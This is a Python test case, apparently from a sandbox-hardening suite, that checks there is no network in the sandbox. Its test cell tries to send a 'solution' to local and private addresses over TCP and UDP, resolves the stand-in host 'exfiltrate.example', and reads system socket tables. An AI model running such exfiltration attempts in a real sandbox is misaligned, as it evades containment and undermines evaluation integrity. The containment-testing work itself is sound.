"""Sends what it has to a port of this machine, to other machines, by name and by abstract socket.

Holds: there is no network in the sandbox.
"""

from tests.hostile.case import TENSORS

DESERVES = {"tensors": 10}
CELLS = {
    "tensors": TENSORS,
    "after tensors": r"""
import socket
import urllib.request

for host in ("127.0.0.1", "localhost", "0.0.0.0", "::1", "10.0.0.1", "192.168.0.1"):
    try:
        socket.create_connection((host, @PORT@), timeout=1).send(b"solution")
        print("sent to", host)
    except OSError as error:
        print(host, error)
try:
    print(urllib.request.urlopen("http://127.0.0.1:@PORT@/", timeout=1).read())
except Exception as error:
    print(error)
try:
    print(socket.getaddrinfo("exfiltrate.example", 80))
except OSError as error:
    print(error)
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    try:
        with socket.socket(socket.AF_INET, kind, socket.IPPROTO_UDP) as link:
            link.sendto(b"solution", ("127.0.0.1", @PORT@))
    except OSError as error:
        print(error)
print(open("/proc/net/unix").read(), open("/proc/net/tcp").read())
""",
}
